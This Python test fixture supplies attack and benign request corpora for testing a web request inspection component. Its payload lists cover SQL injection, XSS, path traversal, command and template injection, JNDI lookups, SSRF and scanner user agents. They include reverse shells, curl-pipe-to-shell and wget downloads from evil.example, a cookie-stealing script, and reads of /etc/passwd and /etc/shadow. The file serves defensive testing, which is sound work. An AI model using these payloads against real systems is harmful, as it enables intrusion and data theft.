"""Attack and benign corpora for the inspection tests (sources: tests/security/README.md).

Attack payloads are raw strings as an attacker would type them; the tests URL-encode them
into a query parameter (and some into the path or the user agent). Benign requests are
realistic API traffic built from the lists below.
"""

from __future__ import annotations

import itertools
from urllib.parse import quote

SQLI = [
    "' or '1'='1", "' or 1=1--", "\" or \"\"=\"", "' or 'a'='a", "admin'--", "admin' #",
    "admin'/*", "' or 1=1#", "' or 1=1/*", "') or ('1'='1", "') or '1'='1'--",
    "1' or '1'='1' -- -", "1 or 1=1", "1) or (1=1", "' OR 'x'='x", "\" OR 1=1 -- -",
    "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--", "1 UNION ALL SELECT 1,2,3--",
    "' union select username, password from users--", "-1' UNION SELECT @@version,2-- -",
    "1' UNION/**/SELECT/**/1,2,3--", "' /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
    "UnIoN SeLeCt 1,2,3", "1%20UNION%20SELECT%201,2", "%27%20OR%20%271%27%3D%271",
    "'; DROP TABLE users--", "1; DROP TABLE users", "'; exec master..xp_cmdshell 'dir'--",
    "1'; WAITFOR DELAY '0:0:5'--", "1' AND SLEEP(5)--", "1' AND (SELECT 1 FROM (SELECT "
    "SLEEP(5))a)--", "'; SELECT pg_sleep(5)--", "1 AND BENCHMARK(5000000,MD5(1))",
    "' AND extractvalue(1,concat(0x7e,version()))--", "' AND updatexml(1,concat(0x7e,"
    "(SELECT user())),1)--", "' AND 1=CONVERT(int,@@version)--",
    "1' ORDER BY 1--", "1' ORDER BY 10--+", "1 ORDER BY 3#", "' GROUP BY columnnames "
    "having 1=1 --", "' HAVING 1=1--", "1 AND 1=1", "1' AND '1'='1", "1' AND 1=2--",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "' UNION SELECT name FROM sqlite_master--", "1; INSERT INTO users VALUES('x','y')",
    "'; UPDATE users SET password='x' WHERE user='admin'--", "1'; DELETE FROM users--",
    "' or ''='", "' or 1 like 1--", "' || '1'='1", "1' or sleep(5)#",
    "' AND 1=(SELECT 1 FROM dual WHERE 1=dbms_pipe.receive_message('a',5))--",
    "' union select load_file('/etc/passwd')--", "' INTO OUTFILE '/var/www/shell.php'--",
    "' or true--", "') or true--", "' or not false--", "' and exists(select * from users)--",
    "%2527%2520or%25201%253D1--", "1' and char(65,66)='AB'--", "' or 0x50=0x50--",
    "admin' or '1'='1'/*", "' or 1=1 limit 1 -- -+", "1 or 2>1", "' or 2 between 1 and 3--",
]

XSS = [
    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
    "<ScRiPt>alert('XSS')</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert('xss')\">",
    "<IMG SRC=javascript:alert('XSS')>", "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe src=\"https://evil.example\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "alert(1)", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">", "<math><mtext><table><mglyph><style><img src=x "
    "onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"", "';alert(1);//", "\";alert(1);//", "'-alert(1)-'",
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)\\u003c/script"
    "\\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<div style=\"width:expression(alert(1))\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">", "<form action=\"javascript:alert(1)\"><input "
    "type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<svg><animate onbegin="
    "alert(1) attributeName=x dur=1s>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<script>fetch('//evil.example?c='+document.cookie)</script>", "<x onclick=alert(1)>"
    "click", "<img src=x:alert(alt) onerror=eval(src) alt=xss>", "<svg><script>alert(1)"
    "</script></svg>", "<style>@import 'javascript:alert(1)';</style>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "<body onpageshow=alert(1)>",
    "\"><img src=x onerror=prompt(1)>", "<img/src/onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

TRAVERSAL = [
    "../../../etc/passwd", "../../../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini", "....//....//....//etc/passwd",
    "..././..././etc/passwd", "/etc/passwd", "/etc/shadow", "/proc/self/environ",
    "/proc/self/cmdline", "../../../../proc/self/fd/0", "c:\\windows\\system32\\drivers\\"
    "etc\\hosts", "C:/boot.ini", "..\\..\\boot.ini", "%2e%2e\\%2e%2e\\windows\\win.ini",
    "/var/www/../../etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/"
    "resource=index.php", "php://input", "expect://id", "zip://shell.jpg%23payload.php",
    "phar://uploads/x.phar", "....\\\\....\\\\windows\\\\win.ini", "..;/..;/admin",
    "/..%252f..%252f..%252fetc/passwd", "%u002e%u002e%u2215etc%u2215passwd",
    "../../../../etc/passwd%00.png", "../.git/config", "/.env", "../../.htpasswd",
    "/WEB-INF/../web.config", "../../../var/log/apache2/access.log", "~/.ssh/id_rsa",
    "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ".../.../.../etc/passwd", "..%255c..%255cwindows/win.ini", "/etc/hosts",
]

CMDI = [
    "; id", ";id", "| id", "|id", "& id", "&& id", "|| id", "; cat /etc/passwd",
    "| cat /etc/passwd", "`id`", "$(id)", "$(whoami)", "`whoami`", "; whoami", "& whoami",
    "127.0.0.1; ls -la", "127.0.0.1 && cat /etc/passwd", "127.0.0.1 | nc -e /bin/sh "
    "10.0.0.1 4444", "; ping -c 3 127.0.0.1", "| ping -n 3 127.0.0.1", "x; sleep 10",
    "\nid", "%0aid", "%0a cat /etc/passwd", "; uname -a", "| uname -a", "; ls", "&& ls /",
    ";${IFS}cat${IFS}/etc/passwd", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "; wget http://evil.example/x.sh -O /tmp/x", "| curl http://evil.example/x | sh",
    "; rm -rf /tmp/x", "& ipconfig", "| dir c:\\", "& type c:\\windows\\win.ini",
    "; powershell -enc SQBFAFgA", "| cmd /c whoami", "`cat /etc/passwd`", "$(cat /etc/shadow)",
    "; echo vulnerable", "| echo $PATH", "; env", "& net user", "|| ping -c 10 127.0.0.1 ||",
    "; python -c 'import os'", "; perl -e 'print 1'", "$(sleep 5)", "`sleep 5`",
    "; nc 10.0.0.1 4444 -e /bin/bash", "a;/bin/sh", "x|/usr/bin/id", "; hostname",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
    "{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${7*7}", "<%= 7*7 %>", "#{7*7}", "__import__('os').system('id')",
]

SSRF = [
    "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/"
    "v1/", "http://127.0.0.1:8080/admin", "http://localhost/server-status",
    "http://0.0.0.0:6379/", "http://[::1]/", "http://2130706433/", "http://0x7f000001/",
    "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "http://10.0.0.5/admin",
    "http://192.168.1.1/", "http://100.100.100.200/latest/meta-data/",
    "http://169.254.169.254.nip.io/",
]

SCANNER_UA = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
    "Nmap Scripting Engine; https://nmap.org/book/nse.html", "masscan/1.3",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "wfuzz/3.1", "WPScan v3.8.24",
    "Acunetix-Agent", "Mozilla/5.0 zgrab/0.x", "dirbuster",
]

ATTACKS: dict[str, list[str]] = {
    "sqli": SQLI, "xss": XSS, "path_traversal": TRAVERSAL, "command_injection": CMDI,
    "ssrf": SSRF,
}

# -- benign ---------------------------------------------------------------------------------
SEARCHES = [
    "shoes", "red running shoes", "O'Reilly books", "men's jackets", "women's size 8",
    "rock & roll", "rock and roll hall of fame", "\"exact phrase\" search", "it's a wrap",
    "don't stop believin'", "tom & jerry", "1/2 inch pipe", "50% off", "c++ tutorial",
    "c# vs java", "what is 2+2", "a < b > c", "price < 100", "size >= 10", "café au lait",
    "naïve bayes", "São Paulo", "Zürich hotels", "東京 ラーメン", "Ångström", "emoji 😀 test",
    "select a gift for mom", "union station chicago", "drop shipping", "table lamp",
    "update my address", "delete account", "how to order by date in excel",
    "where is my order", "insert coin", "script writing course", "alert dog collar",
    "prompt engineering", "confirm email", "java script course", "onload event explained",
    "online shopping", "one-on-one", "on sale", "documentary films", "cookie recipes",
    "window cleaning", "etc.", "passwords manager review", "shadow the hedgehog",
    "cat food", "ls engine", "id card holder", "sh box", "ping pong table", "curl bar",
    "echo dot", "sleep mask", "Dr. Who", "St. John's Wort", "Ben & Jerry's", "AT&T plans",
    "R&D budget", "Q&A session", "Procter & Gamble", "Johnson & Johnson", "H&M jeans",
    "M&M's", "A&W root beer", "Barnes & Noble", "Marks & Spencer", "salt; pepper",
    "apples; oranges; pears", "rock | pop | jazz", "yes/no", "and/or", "either/or",
    "50/50", "24/7 support", "../ explained", "what does .. mean in a path",
    "the union select committee", "Romeo and Juliet", "It's 5 o'clock somewhere",
    "O'Brien", "D'Angelo", "L'Oréal", "Rock 'n' Roll", "'90s music", "'quoted'",
    "he said \"hi\"", "5' 11\"", "12\" pizza", "3' x 5' rug", "x = y + 1", "e = mc^2",
    "f(x) = x^2", "1 + 1 = 2", "10 - 5 = 5", "a or b", "true or false", "this or that",
    "1 or 2 eggs", "now or never", "either 1 or 2", "select * tutorial",
    "name=John", "key=value pairs", "path/to/file.txt", "C:\\Users\\me\\Documents",
    "https://example.com/page?x=1", "mailto:someone@example.com", "user@example.com",
    "+1 (555) 123-4567", "#hashtag", "@mention", "$100", "€50", "100°F", "~/notes",
    "<3", ":-)", "^_^", "**bold** text", "_italic_ text", "`inline code`", "# Heading",
    "- list item", "> quote", "[link](https://example.com)", "![img](https://x.example/a.png)",
    "<br>", "<b>bold</b>", "<em>hi</em>", "a <i>word</i>", "<p>paragraph</p>",
    "SELECT name FROM users", "for i in range(10): print(i)", "print('hello world')",
    "console.log('hi')", "git commit -m 'fix'", "npm install react", "pip install requests",
    "docker run -p 80:80 nginx", "kubectl get pods -n prod", "ls -la explained",
    "if (a && b) { return; }", "x || y", "a != b", "def f(x): return x * 2",
    "SELECT COUNT(*) FROM orders WHERE status = 'paid'", "let x = [1, 2, 3];",
    "const f = () => 42", "std::vector<int>", "Map<String, List<Integer>>", "i++",
    "#include <stdio.h>", "<?xml version=\"1.0\"?>", "{\"a\": 1}", "[1,2,3]", "a=1&b=2",
    "2024-05-01T12:00:00Z", "12:30", "1,234.56", "3.14159", "-42", "1e10", "0x1F",
    "ORD-2024-0001", "SKU 12345-AB", "ISBN 978-3-16-148410-0", "UUID 550e8400-e29b-41d4",
    "password reset", "forgot password", "login help", "admin panel", "root beer float",
    "system of a down", "exec summary", "union jack flag", "drop table leaf",
    "sleep(ing) bag", "char broil grill", "concat strings in python", "benchmark results",
    "information schema design", "java.lang.String", "python3 -m venv",
    "bash scripting basics", "powershell vs cmd", "find my phone", "head and shoulders",
    "tail of two cities", "more or less", "type of cheese", "env variables explained",
    "nc state", "id software", "rm -rf meaning", "how does sudo work", "etc passwd meaning",
]
PATHS = [
    "/", "/items/1", "/api/v1/users/123", "/api/v1/users/123/orders", "/api/v2/search",
    "/products/red-running-shoes-42", "/blog/2024/05/hello-world", "/static/css/app.css",
    "/static/js/app.min.js", "/images/logo@2x.png", "/docs/getting-started.html",
    "/api/v1/orders/ORD-2024-0001/items", "/users/o'brien", "/wiki/Rock_%26_roll",
    "/wiki/C%2B%2B", "/files/report%202024.pdf", "/caf%C3%A9/menu", "/search",
    "/api/v1/carts/550e8400-e29b-41d4-a716-446655440000", "/health-check",
    "/api/v1/items;jsessionid=abc123", "/.well-known/openid-configuration",
    "/robots.txt", "/favicon.ico", "/sitemap.xml", "/feed.atom", "/a/b/c/d/e/f/g",
]
PARAMS = ["q", "search", "name", "comment", "title", "filter", "note", "tag", "text", "message"]
EXTRA = ["", "&page=2", "&sort=desc&limit=50", "&lang=en-US", "&from=2024-01-01&to=2024-12-31",
         "&utm_source=newsletter&utm_medium=email", "&fields=id,name,price", "&online=true",
         "&redirect=https%3A%2F%2Fshop.example.com%2Fcart", "&callback=handleResponse"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
    "like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "curl/8.5.0", "python-requests/2.31.0", "python-httpx/0.27.0", "okhttp/4.12.0",
    "PostmanRuntime/7.37.0", "Go-http-client/1.1", "kube-probe/1.29",
    "Googlebot/2.1 (+http://www.google.com/bot.html)", "Prometheus/2.42.0",
]


def benign_requests() -> list[tuple[str, str, str]]:
    """(path, query, user agent) triples; 2,000+ distinct requests."""
    out = []
    combos = itertools.product(SEARCHES, PARAMS[:4], EXTRA[:4])
    for i, (text, param, extra) in enumerate(combos):
        path = PATHS[i % len(PATHS)]
        ua = USER_AGENTS[i % len(USER_AGENTS)]
        out.append((path, f"{param}={quote(text)}{extra}", ua))
    for i, path in enumerate(PATHS):
        for extra in EXTRA:
            out.append((path, extra.lstrip("&"), USER_AGENTS[i % len(USER_AGENTS)]))
    return out


BENIGN_BODIES = [
    b'{"name": "O\'Brien", "comment": "It\'s great -- really!", "rating": 5}',
    b'{"query": "red shoes", "filters": {"size": [8, 9], "price": {"lt": 100}}}',
    b'{"markdown": "# Title\\n\\n| id | name |\\n|----|------|\\n| 1 | a |\\n\\n`ls -la`"}',
    b'{"code": "SELECT name FROM users WHERE id = 1", "lang": "sql"}',
    b'{"snippet": "for (let i = 0; i < 10; i++) { console.log(i); }"}',
    b'{"url": "https://example.com/a?b=c&d=e", "title": "Rock & Roll"}',
    b'{"text": "Use <b>bold</b> and <em>emphasis</em>; see ../docs/guide.md"}',
    b"name=Jane+Doe&email=jane%40example.com&message=Hi+there%2C+it%27s+me%21",
    b'{"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-2", "qty": 1}], "note": "ring 2x"}',
    b'{"bio": "I love C++ & Python; 10+ years", "links": ["https://github.com/jane"]}',
]
